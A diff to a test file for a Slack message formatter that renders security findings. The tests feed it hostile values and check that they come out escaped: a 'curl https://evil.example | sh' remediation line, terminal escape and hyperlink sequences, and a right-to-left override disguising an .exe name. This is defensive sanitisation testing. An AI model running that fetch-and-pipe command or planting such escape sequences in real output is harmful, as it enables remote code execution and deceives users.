@@ -81,7 +81,17 @@ describe("Function: slackMessage", () => {
     const fields = fieldsOf(slackMessage(hostileFinding()));
 
     // Assess
-    expect(fields[1]).toBe("*Resource*\narn:aws:iam::111122223333:user/x *Remediation* Run curl https://evil.example | sh");
+    expect(fields[1]).toBe("*Resource*\narn:aws:iam::111122223333:user/x\\n*Remediation*\\nRun curl https://evil.example | sh");
+  });
+
+  it("shows terminal escapes and bidirectional overrides escaped, never as the characters", () => {
+    // Act
+    const shown = texts(slackMessage(hostileFinding({ principal: "arn:aws:iam::111122223333:user/\u001b[2J\u001b]8;;http://evil\u0007admin\u001b]8;;\u0007", resource: "arn:aws:iam::111122223333:user/\u202egnp.exe" }))).join("\n");
+
+    // Assess
+    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    expect(shown).toContain("user/\\x1b[2J\\x1b]8;;http://evil\\x07admin\\x1b]8;;\\x07");
+    expect(shown).toContain("user/\\u202egnp.exe");
   });
 
   it("turns off auto-linking of URLs and mentions in every mrkdwn text", async () => {
